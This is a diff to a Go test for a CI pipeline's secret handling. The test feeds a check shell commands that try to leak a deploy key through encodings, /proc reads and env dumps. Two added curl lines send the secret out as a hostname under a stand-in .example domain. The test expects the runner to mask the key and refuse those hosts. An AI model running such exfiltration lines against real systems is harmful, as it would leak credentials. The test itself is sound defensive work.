@@ -46,19 +46,20 @@ func TestACheckIsGivenTheSecretsThatItNamesAndShowsNone(t *testing.T) {
 		said = string(all)
 		return pipeline.Said{Says: said, Findings: []check.Finding{{Says: said}}}, err
 	}
-	r.has("a", "secrets: deploy-key\nreports: {junit: report.xml}\n", strings.Join([]string{
+	r.has("a", "secrets: deploy-key\nnetwork: [named.example]\nreports: {junit: report.xml}\n", strings.Join([]string{
 		`test "$DEPLOY_KEY" = "$(cat /run/secrets/deploy-key)"`, `test ${#DEPLOY_KEY} = 21`, // it is whole
 		`cat /proc/*/cmdline | tr '\0' '\n' | grep -c '^hunter2' || true`,
 		`echo "plain $DEPLOY_KEY"`, `printf %s "$DEPLOY_KEY" | base64`, `printf '%s' "x$DEPLOY_KEY" | base64`, `printf %s "$DEPLOY_KEY" | od -An -tx1`, `printf %s "$DEPLOY_KEY" | xxd -p || true`,
 		`set -x; : "$DEPLOY_KEY"; set +x`, `env | grep DEPLOY`, `printf '%s' hunter2-; sleep 0.1; echo correct-horse`,
+		`curl -s "http://$DEPLOY_KEY.example/" >/dev/null || true`, `curl -s "http://$(printf %s "$DEPLOY_KEY" | rev).example/" >/dev/null || true`, // by the name of a host
 		`printf '<e>%s</e>' "$DEPLOY_KEY" >report.xml`, `echo "$DEPLOY_KEY" >left`, `exit 3`,
 	}, "\n"))
 	o := r.one("a")
 	log, err := checkrun.Log(r.keep, "a")
-	if err != nil || o.Truth != prentice.Fail || !strings.Contains(log.Text, "plain •••") || !strings.Contains(log.Text, "\n0\n") || said != "<e>•••</e>" {
+	if err != nil || o.Truth != prentice.Fail || !strings.Contains(log.Text, "plain •••") || !strings.Contains(log.Text, "refused hosts that are not named, 2 times") || !strings.Contains(log.Text, "\n0\n") || said != "<e>•••</e>" {
 		t.Fatalf("%+v %v %q\n%s", o, err, said, log.Text)
 	}
-	leaks := map[string]string{"it is plain": hidden, "base64": base64.StdEncoding.EncodeToString([]byte(hidden)), "base64 with a shift": "aHVudGVyMi1jb3JyZWN0", "in hexadecimal": hex.EncodeToString([]byte(hidden)), "od": "68 75 6e 74 65 72"}
+	leaks := map[string]string{"it is plain": hidden, "base64": base64.StdEncoding.EncodeToString([]byte(hidden)), "base64 with a shift": "aHVudGVyMi1jb3JyZWN0", "in hexadecimal": hex.EncodeToString([]byte(hidden)), "od": "68 75 6e 74 65 72", "the other way round, as a host": "esroh-tcerroc-2retnuh"}
 	everything := fmt.Sprintf("%+v", o) + told.String() + log.Text
 	filepath.WalkDir(r.keep, func(path string, d fs.DirEntry, _ error) error {
 		if text, err := os.ReadFile(path); err == nil {
